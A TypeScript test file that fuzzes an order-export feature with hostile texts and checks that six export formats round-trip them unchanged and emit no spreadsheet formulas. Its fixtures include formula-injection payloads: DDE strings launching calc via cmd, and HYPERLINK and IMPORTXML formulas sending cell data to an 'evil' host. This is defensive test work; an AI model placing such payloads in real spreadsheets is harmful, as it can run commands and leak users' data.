import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { sql } from 'kysely';
import { describe, expect, it, onTestFinished } from 'vitest';
import { writeExport } from '../../src/features/exports/write-export.ts';
import { everybody } from '../support/export-all.ts';
import { importText, testSeal } from '../support/import-text.ts';
import { referencePath } from '../support/reference-data.ts';
import { openShop, type Shop } from '../support/shop-folder.ts';
import { unzip } from '../support/unzip.ts';

const ROWS = 10_000;
const pieces = [
  ...['=', '+', '-', '@', "'", '"', '""', ',', ';', '|', '\t', '\n', ' ', '＝', '＋', '﹣', '="', "='"],
  ...[
    '1',
    '-5',
    '+86',
    '138',
    'cmd|',
    "' /C calc'!A0",
    'HYPERLINK("http://x")',
    'A1',
    '合',
    '客户',
    '龘',
    '𠮷',
    '€',
  ],
  ...['👩‍👩‍👧', '❤️', '\u202e', '\u200f', '\u2066', 'é', 'e\u0301', '\u00a0', '\ufeff'],
  ...['_x000A_', '<b>', '&amp;', '\\'],
];
const hostile = fc
  .array(fc.constantFrom(...pieces), { minLength: 1, maxLength: 8 })
  .map((parts) => parts.join(''));
const known = [
  'DDE ("cmd";"/C calc";"!A0")A0',
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil/?x="&A1,"click")',
  '\r=1+1',
  '＝1+1',
  '","=1+1","',
  '=IMPORTXML(CONCAT("http://evil/?",A1),"//a")',
  ...['a\u0007b', '-5', '+8613800138000', '+86 138 0013 8000'],
];
const naughty = referencePath('conformance', 'blns', 'blns.json');

async function hostileTexts(): Promise<string[]> {
  const published = naughty === undefined ? [] : (JSON.parse(await readFile(naughty, 'utf8')) as string[]);
  const fixed = [...known, ...published];
  return [...fixed, ...fc.sample(hostile, { numRuns: ROWS - fixed.length, seed: 7 })];
}

/** Orders that hold these texts, however they are read: what the register makes of them is what has to come back. */
function ordersOf(texts: readonly string[]): string {
  const quoted = (text: string): string => `"${text.replaceAll('"', '""')}"`;
  const rows = texts.map(
    (text, n) =>
      `N${n},c${n % 50},2026-01-0${1 + (n % 9)} 0${n % 10}:00:0${n % 7},${n % 3 === 0 ? '-' : ''}${n}.5,${quoted(text)},${quoted(`x${text.replaceAll('\r', '')}`)}`,
  );
  return `order_id,customer_id,paid_at,amount,product,store\r\n${rows.join('\r\n')}\r\n`;
}

interface KeptOrder {
  readonly ref: string;
  readonly product: string | null;
  readonly store: string | null;
  readonly digest: string;
}

async function keptOf({ folder }: Shop): Promise<readonly KeptOrder[]> {
  const { rows } = await sql<KeptOrder>`select order_ref as ref, product, store, digest from orders
    order by order_ref`.execute(folder.database().reader);
  return rows;
}

async function exported(shop: Shop, name: string, given: object = {}): Promise<Buffer> {
  const place = await mkdtemp(join(tmpdir(), 'tierbook-round-'));
  onTestFinished(async () => await rm(place, { recursive: true }));
  const format = name.split('.')[1] as 'csv';
  const out = join(place, name);
  await writeExport(shop.folder, testSeal, { ...everybody, what: 'orders', ...given, out, format });
  return await readFile(out);
}

describe(`hostile texts${naughty === undefined ? ' without the published ones, which are not at hand' : ''} (R040)`, () => {
  it('come back from every format as they were, and no cell is a formula', async () => {
    const source = await openShop();
    await importText(source, 'orders', [ordersOf(await hostileTexts())]);
    const kept = await keptOf(source);
    expect(kept).toHaveLength(ROWS);
    const files: [string, Buffer][] = [
      ['UTF-8', await exported(source, 'a.csv')],
      ['GB18030', await exported(source, 'a.csv', { encoding: 'gb18030', headers: 'zh' })],
      ['workbook', await exported(source, 'a.xlsx', { headers: 'en' })],
      ['JSON', await exported(source, 'a.json')],
      ['JSON lines', await exported(source, 'a.jsonl')],
      ['Parquet', await exported(source, 'a.parquet')],
    ];
    for (const [name, content] of files) {
      const target = await openShop();
      await importText(target, 'orders', [content]);
      const back = await keptOf(target);
      const wrong = kept.flatMap((order, at) =>
        order.digest === back[at]?.digest ? [] : [[order, back[at]]],
      );
      expect([name, back.length, wrong.slice(0, 5)]).toEqual([name, ROWS, []]);
    }
    const sheet = String(unzip(files[2]?.[1] ?? Buffer.alloc(0)).get('xl/worksheets/sheet1.xml'));
    expect(sheet).not.toContain('<f');
    for (const [cell] of sheet.matchAll(/<c [^>]*>(?!<v>)/g)) expect(cell).toContain(' t="inlineStr"');
    const lines = (await exported(source, 'a.jsonl')).toString('utf8').trimEnd().split('\n');
    expect(lines).toHaveLength(ROWS);
    const told = lines.map((line) => JSON.parse(line) as { order_id: string; product: string | null });
    expect(new Map(told.map(({ order_id, product }) => [order_id, product]))).toEqual(
      new Map(kept.map(({ ref, product }) => [ref, product])),
    );
  }, 300_000);
});
